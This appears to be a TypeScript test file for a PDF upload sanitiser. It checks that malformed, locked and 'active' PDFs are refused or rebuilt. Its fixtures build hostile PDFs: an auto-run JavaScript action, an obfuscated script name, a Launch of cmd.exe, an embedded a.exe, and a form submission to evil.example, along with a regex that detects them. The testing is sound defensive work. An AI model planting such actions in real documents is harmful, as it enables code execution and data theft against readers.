import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { isActivePdf } from "@/lib/adapters/pictures/active-pdf";
import { childPictures } from "@/lib/adapters/pictures/child-pictures";
import { isAppError } from "@/lib/core/base/errors";
import { makePdf } from "@/tests/support/make-pdf";
import { readPdf } from "@/tests/support/pdf";

const open = async (bytes: Buffer) => {
  const { files, widthPx, heightPx } = await childPictures.work({ kind: "document", read: async () => bytes });
  return { bytes: Buffer.from(files[0]?.bytes ?? []), widthPx, heightPx, suffix: files[0]?.suffix };
};
const codeOf = (bytes: Buffer) =>
  open(bytes).then(
    () => "opened",
    (error: unknown) => (isAppError(error) ? error.code : String(error)),
  );

const PLAIN = makePdf();
const text = (value: string) => Buffer.from(value, "latin1");
const without = (pattern: RegExp) => text(PLAIN.toString("latin1").replace(pattern, ""));

describe("a PDF", () => {
  it("that is intact stays as it came, so that its signature is still valid", async () => {
    const { bytes, ...facts } = await open(PLAIN);
    expect(bytes.equals(PLAIN)).toBe(true);
    expect(facts).toEqual({ suffix: ".pdf", widthPx: 595, heightPx: 842 });
  });

  it.each<[string, Buffer]>([
    ["bytes after its end", Buffer.concat([PLAIN, text("<html><script>canari()</script></html>")])],
    ["an archive after its end", Buffer.concat([PLAIN, text("PK\u0003\u0004canari")])],
    ["many bytes after its end", Buffer.concat([PLAIN, text("canari ".repeat(20_000))])],
    ["another end in what follows", Buffer.concat([PLAIN, text("canari\nstartxref\n9\n%%EOF\n")])],
    ["a padding of NUL", Buffer.concat([PLAIN, Buffer.alloc(8_192)])],
    ["no final mark", without(/%%EOF\n$/)],
    ["no final mark and no place of its table", without(/startxref[\s\S]*$/)],
    ["a wrong place of its table", makePdf({ startxref: 99_999 })],
    ["a table that is wrong", text(PLAIN.toString("latin1").replaceAll(/\d{10} 00000 n/g, "0000000007 00000 n"))],
    ["a mail's header before it", Buffer.concat([text("Content-Type: application/pdf\r\n\r\n"), PLAIN])],
    ["a byte order mark before it", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), PLAIN])],
  ])("with %s is rebuilt, and every reader opens it", async (_what, sent) => {
    const { bytes } = await open(sent);
    expect(bytes.toString("latin1")).toMatch(/^%PDF-[\s\S]*%%EOF\s*$/);
    expect(bytes.toString("latin1")).not.toMatch(/canari|Content-Type/);
    expect(await readPdf(bytes)).toMatchObject({ pageCount: 1, text: "AH 1007" });
  });

  it("that only its owner may change is opened, intact and rebuilt", async () => {
    const restricted = makePdf({ password: "" });
    expect((await open(restricted)).bytes.equals(restricted)).toBe(true);
    const { bytes } = await open(Buffer.concat([restricted, Buffer.alloc(99)]));
    expect(await readPdf(bytes)).toMatchObject({ pageCount: 1, text: "AH 1007" });
  });

  it("that needs a password is refused as such, whatever follows it", async () => {
    const locked = makePdf({ password: "secret" });
    expect(await codeOf(locked)).toBe("upload.locked");
    expect(await codeOf(Buffer.concat([locked, Buffer.alloc(99)]))).toBe("upload.locked");
  });

  it.each<[string, Buffer]>([
    ["has no page", makePdf({ kids: "[]", count: 0 })],
    ["claims to have pages that are not there", makePdf({ kids: "[]", count: 9 })],
    ["is cut off in its middle", PLAIN.subarray(0, 300)],
    ["is only a name", text("%PDF-1.7")],
    ["has a name and an end", text("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n")],
    ["is a page of HTML", text("<html>%PDF-1.4</html>%%EOF")],
    [
      "nests itself without an end",
      text(`%PDF-1.4\n1 0 obj\n${"[".repeat(200_000)}\nendobj\ntrailer<</Root 1 0 R>>\n`),
    ],
  ])("that %s is refused", async (_what, sent) => {
    expect(await codeOf(sent)).toBe("upload.unreadable");
  });

  it("that was damaged anywhere is either refused or opened by every reader", async () => {
    const outcomes = new Set<string>();
    for (let at = 9; at < PLAIN.length; at += 41) {
      const damaged = Buffer.from(PLAIN);
      damaged.fill(0x23, at, at + 4);
      const opened = await open(damaged).catch(() => undefined);
      const pages = opened && (await readPdf(opened.bytes).then(({ pageCount }) => pageCount));
      outcomes.add(opened ? `${pages} pages` : "refused");
    }
    expect([...outcomes].sort()).toEqual(["1 pages", "refused"]);
  }, 60_000);
});

/** A stream object of these bytes. */
const stream = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([text(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`), bytes, text("\nendstream")]);
/** Two objects that lie compressed in another one. */
const hidden = (content: string) =>
  stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(text(`9 0 ${content}`)));
const SCRIPT = "/S /JavaScript /JS (app.alert\\(1\\))";
/** PDFs that do more than being read. */
const ACTIVE: Record<string, Buffer> = {
  "a script at its opening": makePdf({ catalog: `/OpenAction << ${SCRIPT} >>` }),
  "a script whose name is disguised": makePdf({ catalog: "/OpenAction << /S /J#61vaScript /#4aS (1) >>" }),
  "a script among its names": makePdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` }),
  "a script at its page": makePdf({ page: `/AA << /O << ${SCRIPT} >> >>` }),
  "a script of a link": makePdf({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${SCRIPT} >> >>]`,
  }),
  "a program that it starts": makePdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
  "a file inside": makePdf({
    catalog: "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>",
    more: [stream("/Type /EmbeddedFile", text("canari"))],
  }),
  "a form that it sends": makePdf({ catalog: "/OpenAction << /S /SubmitForm /F (https://evil.example) >>" }),
  "a form of another kind": makePdf({
    catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
    more: [stream("", text("<xdp>canari</xdp>"))],
  }),
  "an archive in a part that nothing shows": makePdf({
    more: [stream("", text("PK\u0003\u0004canari PK\u0005\u0006"))],
  }),
  "compressed objects with a script": makePdf({ more: [hidden(`<< ${SCRIPT} >>`)] }),
  "objects that cannot be looked into": makePdf({ more: [stream("/Type /ObjStm /N 1 /First 4", text("canari"))] }),
};

describe("a PDF that does more than being read", () => {
  it.each(Object.keys(ACTIVE))("is its pages alone afterwards: %s", async (what) => {
    const sent = ACTIVE[what] ?? Buffer.alloc(0);
    expect(isActivePdf(sent)).toBe(true);
    const { bytes, widthPx, heightPx } = await open(sent);
    expect(isActivePdf(bytes)).toBe(false);
    expect(bytes.toString("latin1")).not.toMatch(/JavaScript|Launch|Embedded|SubmitForm|XFA|OpenAction|\/AA|canari/);
    expect(await readPdf(bytes)).toMatchObject({ pageCount: 1, text: "AH 1007" });
    expect([widthPx, heightPx]).toEqual([595, 842]);
  });

  it("is not what opens at a page, links to one or holds harmless objects: that stays as it came", async () => {
    for (const sent of [
      makePdf({ catalog: "/OpenAction [3 0 R /Fit]" }),
      makePdf({
        page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://airalgerie.dz) >> >>]",
      }),
      makePdf({ more: [hidden("<< /Type /Metadata >>")] }),
    ])
      expect((await open(sent)).bytes.equals(sent)).toBe(true);
  });
});
